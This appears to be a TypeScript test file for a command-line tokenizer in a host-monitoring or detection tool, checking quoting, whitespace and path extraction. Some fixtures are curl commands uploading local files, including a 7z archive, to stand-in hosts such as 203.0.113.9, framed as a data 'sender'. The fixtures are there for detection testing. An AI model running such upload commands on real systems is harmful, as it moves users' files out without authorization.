import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { process } from '../../test/host-view.ts';
import { namedPaths, wordsOf } from './named-paths.ts';

const words = (commandLine: string, platform: 'windows' | 'linux' = 'windows'): readonly string[] =>
  wordsOf({ arguments: undefined, commandLine, platform });

describe('the words of a command line', () => {
  it.each([
    [
      '"C:\\Program Files\\nodejs\\node.exe" "C:\\a b\\npm-cli.js" install',
      ['C:\\Program Files\\nodejs\\node.exe', 'C:\\a b\\npm-cli.js', 'install'],
    ],
    [
      'curl.exe -F "file=@C:\\a b\\x.7z" --data-binary @"C:\\q r\\y" https://h/',
      ['curl.exe', '-F', 'file=@C:\\a b\\x.7z', '--data-binary', '@C:\\q r\\y', 'https://h/'],
    ],
    ['  a   ""  b ', ['a', '', 'b']],
    ['a "b c', ['a', 'b c']],
    ["dir C:\\it's", ['dir', "C:\\it's"]],
  ])('%s', (line, expected) => {
    expect(words(line)).toEqual(expected);
  });

  it('may be quoted both ways elsewhere', () => {
    expect(words(`curl -d 'a b' "c d"`, 'linux')).toEqual(['curl', '-d', 'a b', 'c d']);
  });

  it('are the exact ones where a sensor tells them', () => {
    expect(wordsOf({ arguments: ['a', 'b c'], commandLine: 'x', platform: 'linux' })).toEqual(['a', 'b c']);
  });

  it('lose nothing but blanks and quotes', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', '"', ' ', '\t', '\\', "'") }), (line) => {
        expect(words(line).join('').replaceAll(/\s/g, '')).toBe(line.replaceAll(/[\s"]/g, ''));
      }),
    );
  });

  it('name paths', () => {
    const sender = process({ commandLine: 'curl.exe -T "C:\\Out Box\\Data.7z" http://203.0.113.9/' });
    expect([...namedPaths(sender)]).toContain('c:\\out box\\data.7z');
  });
});
